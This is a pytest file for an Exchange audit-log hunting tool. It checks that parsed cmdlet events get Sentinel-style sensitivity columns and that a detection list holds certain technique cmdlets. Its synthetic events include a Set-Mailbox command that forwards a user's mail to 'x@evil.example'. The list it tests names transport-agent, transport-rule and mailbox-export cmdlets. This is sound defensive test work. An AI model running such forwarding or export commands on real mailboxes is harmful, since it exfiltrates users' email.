"""ExchangeAdminAuditLogs with the columns of Sentinel's Exchange parser (IsVIP, IsSensitive, UserOriented,
ESIEnvironment, ...), from the MSExchange Management log: exhunt's sensitive-cmdlet list, no watchlists."""

from __future__ import annotations

from pathlib import Path

import pytest

import winlog_gen as g
from exhunt import sources
from exhunt.backends.duckdb import DuckDBBackend
from exhunt.engine import Session
from exhunt.winlog.exchange import sensitive_cmdlets


def _cmdlet(record: int, time: str, cmdlet: str, params: str, event_id: int = 1) -> g.Ev:
    return g.Ev(g.EXCHANGE, event_id, record, time, [cmdlet, params, "contoso.local/Users/exadmin",
                                                     "S-1-5-21-1-2-3-1104", "S-1-5-21-1-2-3-1104",
                                                     "Remote-ManagementShell-Unknown", "8372 w3wp"])


EVENTS = [
    _cmdlet(1, "2026-03-01T10:00:00Z", "Set-Mailbox", "-Identity \"bob\" -ForwardingSmtpAddress \"x@evil.example\""),
    _cmdlet(2, "2026-03-01T10:01:00Z", "Set-Mailbox", "-Identity \"bob\" -IssueWarningQuota 1GB"),
    _cmdlet(3, "2026-03-01T10:02:00Z", "enable-transportagent", "-Identity \"Agent X\""),
    _cmdlet(4, "2026-03-01T10:03:00Z", "Get-Mailbox", "-ResultSize Unlimited"),
]
QUERY = ("ExchangeAdminAuditLogs | sort by TimeGenerated asc | project CmdletName, IsVIP, IsSenstiveCmdlet, "
         "IsRestrictedCmdLet, IsSenstiveCmdletParameters, IsSensitive, UserOriented, ESIEnvironment, "
         "Extracted = array_length(ExtractedParameters), First = tostring(ExtractedParameters[1]), "
         "Restricted = array_length(RestrictedParameters), "
         "objectGUID, sAMAccountName")


def test_parser_columns_from_the_cmdlet_log(tmp_path: Path) -> None:
    path = g.write_jsonl(tmp_path / "cmdlets.json", [g.evtx_json(e) for e in EVENTS])
    with Session(in_memory=True) as session:
        session.load_files([sources.disk_file(path)], jobs=1)
        rows = DuckDBBackend(session).query(QUERY).to_pylist()
    base = {"IsVIP": False, "ESIEnvironment": "Unknown-contoso.local", "objectGUID": "", "sAMAccountName": ""}
    assert rows == [
        {**base, "CmdletName": "Set-Mailbox", "IsSenstiveCmdlet": True, "IsRestrictedCmdLet": True,
         "IsSenstiveCmdletParameters": True, "IsSensitive": True, "UserOriented": "Yes",
         "Extracted": 2, "First": "-forwardingsmtpaddress", "Restricted": 4},
        {**base, "CmdletName": "Set-Mailbox", "IsSenstiveCmdlet": True, "IsRestrictedCmdLet": True,
         "IsSenstiveCmdletParameters": False, "IsSensitive": False, "UserOriented": "Yes",
         "Extracted": 2, "First": "-issuewarningquota", "Restricted": 4},
        {**base, "CmdletName": "enable-transportagent", "IsSenstiveCmdlet": True, "IsRestrictedCmdLet": False,
         "IsSenstiveCmdletParameters": False, "IsSensitive": True, "UserOriented": "No",
         "Extracted": 1, "First": "", "Restricted": 0},
        {**base, "CmdletName": "Get-Mailbox", "IsSenstiveCmdlet": False, "IsRestrictedCmdLet": None,
         "IsSenstiveCmdletParameters": False, "IsSensitive": False, "UserOriented": "",
         "Extracted": None, "First": "", "Restricted": None},
    ]


@pytest.mark.parametrize("name", ["Install-TransportAgent", "Enable-TransportAgent", "New-TransportRule",
                                  "New-ManagementRoleAssignment", "New-MailboxExportRequest"])
def test_the_list_holds_the_technique_cmdlets(name: str) -> None:
    assert name.lower() in sensitive_cmdlets()
